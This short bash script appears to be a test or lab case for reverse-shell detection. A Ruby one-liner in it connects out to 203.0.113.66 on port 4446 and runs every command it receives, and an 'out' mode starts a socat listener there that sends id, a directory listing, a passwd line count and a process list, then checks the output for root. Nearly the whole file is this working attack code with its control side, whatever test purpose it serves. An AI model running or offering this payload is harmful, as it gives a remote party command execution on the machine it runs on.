#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=ruby far=out ready=out:4446 seconds=22 parts=dns
# Ruby calls back, does each line that comes and says what it said, in one line as it stands in every list of such lines.
# shellcheck disable=SC2016 # Ruby has its own variables
if [ "$1" = out ]; then (sleep 5; for line in id "ls / | head -4" "cat /etc/passwd | wc -l" "ps ax | tail -3" exit; do echo "$line"; sleep 2; done) | timeout 30 socat -t 2 - TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0; fi
timeout 20 ruby -rsocket -e 'c=TCPSocket.new("203.0.113.66",4446);$stdin.reopen(c);$stdout.reopen(c);$stderr.reopen(c);$stdin.each_line{|l|l=l.strip;next if l.length==0;break if l=="exit";(IO.popen(l,"rb"){|fd| fd.each_line {|o| c.puts(o.strip) }}) rescue nil }'; grep -q uid=0 "$LAB/heard"
